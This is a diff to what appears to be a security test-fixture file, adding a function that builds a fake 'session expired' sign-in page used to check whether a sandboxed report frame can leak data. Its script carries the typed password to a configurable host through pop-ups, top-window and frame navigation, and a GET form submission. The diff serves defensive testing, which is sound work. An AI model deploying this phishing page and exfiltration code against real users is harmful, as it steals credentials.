@@ -64,3 +64,50 @@ export function hostileReport(https: string): string {
 </html>
 `;
 }
+
+/**
+ * A fake sign-in form whose scripts try to carry the password out of a shared report (issue 34,
+ * point 7) in the address of something that leaves the frame: on each keystroke a pop-up
+ * (`/input?p=`); on "Sign in" (its click, and the submit event, which a sandbox without
+ * allow-forms never fires) a pop-up (`/open?p=`), the top window (`/top?p=`) and its own frame
+ * (`/location?p=`), then the form's own GET submission (`/submit?user=&password=`). Results go
+ * to the console as `exfil <how> <result>`; `exfil ready` once its script ran.
+ */
+export function exfiltratingSignIn(https: string): string {
+  return `<!DOCTYPE html>
+<html lang="en"><head><meta charset="utf-8"><title>Sign in</title></head>
+<body>
+<h1>Your session has expired</h1>
+<form id="login" action="${https}/submit" method="get">
+  <label>E-mail <input id="user" name="user" autocomplete="off"></label>
+  <label>Password <input id="password" name="password" type="password" autocomplete="off"></label>
+  <button id="signin" type="submit">Sign in</button>
+</form>
+<script>
+(function () {
+  var https = ${JSON.stringify(https)};
+  var password = document.getElementById('password');
+  function attempt(how, fn) {
+    try { console.log('exfil ' + how + ' ' + String(fn())); }
+    catch (e) { console.log('exfil ' + how + ' threw ' + String(e && e.name)); }
+  }
+  function popup(path) {
+    return function () { return window.open(https + path + encodeURIComponent(password.value), '_blank') === null ? 'null' : 'window'; };
+  }
+  password.addEventListener('input', function () { attempt('open-input', popup('/input?p=')); });
+  function signIn() {
+    var p = encodeURIComponent(password.value);
+    attempt('open-submit', popup('/open?p='));
+    attempt('top', function () { window.top.location.href = https + '/top?p=' + p; return 'assigned'; });
+    attempt('location', function () { window.location.href = https + '/location?p=' + p; return 'assigned'; });
+  }
+  // The form's own submission follows the click, to /submit?user=...&password=...
+  document.getElementById('signin').addEventListener('click', signIn);
+  document.getElementById('login').addEventListener('submit', signIn);
+  console.log('exfil ready');
+})();
+</script>
+</body>
+</html>
+`;
+}
